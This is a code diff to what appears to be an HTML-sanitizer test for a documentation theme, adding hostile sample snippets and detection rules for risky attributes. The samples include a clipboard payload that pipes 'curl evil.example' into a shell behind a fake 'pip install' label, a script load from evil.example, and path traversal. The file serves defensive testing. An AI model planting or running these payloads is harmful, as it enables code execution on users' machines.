@@ -121,6 +121,10 @@ ATTEMPTS = {
     # Things the site's own scripts look for.
     "the theme's settings": '<div id="__config">{"base":"https://evil.example"}</div>',
     "the theme's search": '<input id="__search" type="checkbox" checked>',
+    "the script of the search": '<button data-search="//evil.example/x.js">x</button>',
+    "the script of the search on a text": '<p data-search="../page.md">x</p>',
+    "a module from elsewhere": '<div data-explorable="../../../page">x</div>',
+    "a text to be copied": '<pre><code data-clipboard-text="curl evil.example | sh">pip install x</code></pre>',
     "a part of the theme": '<div data-md-component="search">x</div>',
 }
 
@@ -154,7 +158,9 @@ class Seen(HTMLParser):
                 self.bad.append(f"{name}={value}")
             if (tag, name) == ("input", "type") and address not in ("checkbox", "radio"):
                 self.bad.append(f"{name}={value}")
-            if (name == "id" and address.startswith("__")) or name.startswith("data-md-"):
+            if name == "data-explorable" and "/" in address:
+                self.bad.append(f"{name}={value}")
+            if (name == "id" and address.startswith("__")) or name.startswith(("data-md-", "data-search", "data-clip")):
                 self.bad.append(f"{name}={value}")
 
 
